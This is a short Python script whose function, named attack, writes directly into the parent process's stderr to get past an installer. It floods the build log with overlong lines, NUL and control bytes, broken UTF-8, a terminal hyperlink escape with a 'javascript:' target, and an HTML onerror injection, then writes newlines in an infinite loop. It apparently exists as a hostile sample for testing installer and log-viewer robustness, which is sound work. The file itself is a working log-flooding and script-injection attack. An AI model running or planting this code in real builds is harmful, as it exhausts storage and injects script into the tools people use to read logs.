"""Prints without end past the installer, straight into the build's log: lines that are too long, empty ones, NULs, control characters, halves of characters."""
import os


def attack():
    with open("/proc/%d/fd/2" % os.getppid(), "wb", buffering=0) as out:
        for kind in (b"x" * 65536, b"\0" * 65536, b"\x01" * 65536, ("\U0001f600" * 16384).encode(), b"\xf0\x9f" * 32768, b"\x1b]8;;javascript:alert(1)\x07<img onerror=alert(1)>\x1b]8;;\x07\r" * 1000, b"\n" * 65536):
            for _ in range(40):
                out.write(kind)
        while True:
            out.write(b"\n" * 65536)
